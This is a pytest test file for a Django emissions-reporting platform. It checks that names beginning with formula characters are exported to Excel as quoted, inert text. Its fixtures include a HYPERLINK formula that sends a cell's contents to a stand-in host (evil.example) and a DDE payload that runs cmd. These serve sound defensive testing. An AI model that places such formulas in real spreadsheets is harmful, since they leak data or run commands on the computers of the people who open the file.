"""Formula injection (issue 12, item 1): text an enterprise controls never reaches a spreadsheet as a formula.

Items, products and references named with each dangerous first character (``=``, ``+``, ``-``, ``@``, tab,
CR) go in through the API (and the services), then out through every workbook the platform writes: the
account export as the government and a bank read it (明细), the firm's own Excel template, the regional
monthly report. Read back with openpyxl (``data_only=False``, so a formula would show as one), no cell holds a
formula or text starting with "=" and the text after the added quote is what was declared.
"""

from __future__ import annotations

import io
import json
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from dualcarbon.engine import safe_cells
from dualcarbon.reporting.models import Submission
from tests.factories import cement_month
from tests.web.helpers import fast_world, login

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
#: one per dangerous first character
NAMES = [HYPERLINK, "+SUM(1,2)", "-2+3+" + DDE[1:], "@SUM(A1:A9)", "\t=1+1", "\r=2+2"]


def dangerous_cells(content: bytes) -> list[str]:
    """Cells of a workbook that a spreadsheet would run: formulas, or text starting with a formula character."""
    wb = openpyxl.load_workbook(io.BytesIO(content), data_only=False)
    found = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or safe_cells.is_dangerous(cell.value):
                    found.append(f"{ws.title}!{cell.coordinate}={cell.value!r} ({cell.data_type})")
    return found


def texts(content: bytes, sheet: str | None = None) -> list[str]:
    wb = openpyxl.load_workbook(io.BytesIO(content), data_only=False)
    sheets = [wb[sheet]] if sheet else wb.worksheets
    return [c for ws in sheets for row in ws.iter_rows(values_only=True) for c in row if isinstance(c, str)]


def month_with_names() -> dict[str, Any]:
    month = cement_month()
    month["activities"] += [
        # a process line with the enterprise's own factor: any item name is accepted and computed
        {
            "source_type": "process",
            "item": name,
            "quantity": 10 + i,
            "unit": "t",
            "factor": 0.5,
            "factor_unit": "tCO2/t",
        }
        for i, name in enumerate(NAMES)
    ]
    month["production"] += [{"product": name, "quantity": 1, "unit": "t"} for name in NAMES]
    month["generation"] = [
        {"technology": "pv", "use": "self_consumed", "quantity": 100, "unit": "MWh", "reference": name}
        for name in NAMES[:3]
    ]
    month["offsets"] = [
        {"kind": "ccer", "quantity": 5, "unit": "tCO2e", "origin": "purchased", "status": "retired", "reference": name}
        for name in NAMES[3:]
    ]
    return month


@pytest.fixture
def world(settings: Any) -> Any:
    w = fast_world(settings)
    out = io.StringIO()
    call_command("create_api_token", "cement", "ERP", stdout=out, stderr=io.StringIO())
    api = Client(HTTP_AUTHORIZATION=f"Bearer {out.getvalue().strip()}")
    body = json.dumps(month_with_names(), default=str)
    response = api.put("/api/reporting/periods/2024/1/draft", body, content_type="application/json")
    assert response.status_code == 200, response.content
    response = api.post("/api/reporting/periods/2024/1/submit", "{}", content_type="application/json")
    assert response.status_code == 200, json.dumps(response.json(), ensure_ascii=False)
    w.submission = Submission.objects.get(pk=response.json()["submission_id"])
    return w


def stored_names(sub: Submission) -> list[str]:
    """The names as the platform stored them (what must come back after the quote)."""
    items = [a.item for a in sub.activities.all() if safe_cells.is_dangerous(a.item)]
    assert len(items) == len(NAMES)
    return items


def assert_neutralised(content: bytes, expected: list[str], sheet: str | None = None) -> None:
    assert dangerous_cells(content) == []
    cells = texts(content, sheet)
    for name in expected:
        assert safe_cells.QUOTE + name in cells, (name, sheet)
        assert safe_cells.restore(safe_cells.QUOTE + name) == name


def test_the_account_export_holds_the_items_as_text_for_the_government_and_the_bank(client: Client, world: Any) -> None:
    names = stored_names(world.submission)
    url = reverse("accounting:export", args=[world.cement.pk]) + "?year=2024"
    for role in ("gov", "bank", "cement"):
        login(client, world.users[role])
        response = client.get(url)
        assert response.status_code == 200, role
        assert_neutralised(response.content, names, "明细")
        # numbers stay numbers (a tCO2e of the injected lines)
        wb = openpyxl.load_workbook(io.BytesIO(response.content))
        rows = list(wb["明细"].iter_rows(values_only=True))
        head = rows[0]
        line = next(r for r in rows[1:] if r[head.index("报送品种")] == safe_cells.QUOTE + names[0])
        assert line[head.index("tCO2e")] == pytest.approx(10 * 0.5)


def test_the_firms_template_writes_items_products_and_references_as_text_and_reads_them_back(
    client: Client, world: Any
) -> None:
    from dualcarbon.reporting import excel

    sub = world.submission
    login(client, world.users["cement"])
    response = client.get(reverse("reporting:template", args=[2024, 1]) + f"?org={world.cement.pk}")
    assert response.status_code == 200
    content = response.content
    assert dangerous_cells(content) == []
    products = [p.product for p in sub.production.all() if safe_cells.is_dangerous(p.product)]
    claims = excel_claims = [r["reference"] for rows in _claims(sub).values() for r in rows]
    assert len(products) == len(NAMES) and len(claims) == len(NAMES)
    assert_neutralised(content, stored_names(sub), excel.SHEET_ACTIVITY)
    assert_neutralised(content, products, excel.SHEET_PRODUCTION)
    assert_neutralised(content, excel_claims[:3], excel.SHEET_GENERATION)
    assert_neutralised(content, excel_claims[3:], excel.SHEET_OFFSETS)
    # the round trip: uploading the downloaded template declares the same text (the quote is taken off)
    from django.core.files.uploadedfile import SimpleUploadedFile

    data = excel.parse_workbook(SimpleUploadedFile("t.xlsx", content))
    assert sorted(a["item"] for a in data.activities if safe_cells.is_dangerous(a["item"])) == sorted(stored_names(sub))
    assert sorted(p["product"] for p in data.production if safe_cells.is_dangerous(p["product"])) == sorted(products)
    assert [g["reference"] for g in data.generation] + [o["reference"] for o in data.offsets] == claims


def _claims(sub: Submission) -> dict[str, list[dict[str, Any]]]:
    from dualcarbon.reporting import services

    return services.claims_of(sub)


def test_the_regional_report_writes_enterprise_names_as_text(client: Client, world: Any) -> None:
    world.cement.name = HYPERLINK
    world.cement.save(update_fields=["name"])
    login(client, world.users["gov"])
    response = client.get(reverse("monitoring:report_xlsx", args=[2024, 1]))
    assert response.status_code == 200
    assert_neutralised(response.content, [HYPERLINK])


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", HYPERLINK, DDE])
def test_neutralise_quotes_every_dangerous_prefix_and_restore_undoes_it(value: str) -> None:
    assert safe_cells.neutralise(value) == "'" + value
    assert safe_cells.neutralise(safe_cells.neutralise(value)) == "'" + value  # idempotent
    assert safe_cells.restore(safe_cells.neutralise(value)) == value


@pytest.mark.parametrize("value", [-1, -2.5, 0, 3, None, "", "原煤", "a=b", " =x", "'plain", "1-2"])
def test_numbers_and_harmless_text_are_unchanged(value: Any) -> None:
    assert safe_cells.neutralise(value) == value
    assert safe_cells.restore(value) == value


def test_a_workbook_sweep_turns_formulas_into_quoted_text_and_keeps_negative_numbers() -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.append([HYPERLINK, -5, -0.25, "-x", "ok"])
    assert ws["A1"].data_type == "f"
    safe_cells.neutralise_workbook(wb)
    buf = io.BytesIO()
    wb.save(buf)
    assert dangerous_cells(buf.getvalue()) == []
    back = openpyxl.load_workbook(io.BytesIO(buf.getvalue()))
    assert [c.value for c in back.active[1]] == ["'" + HYPERLINK, -5, -0.25, "'-x", "ok"]
    assert back.active["B1"].data_type == "n"
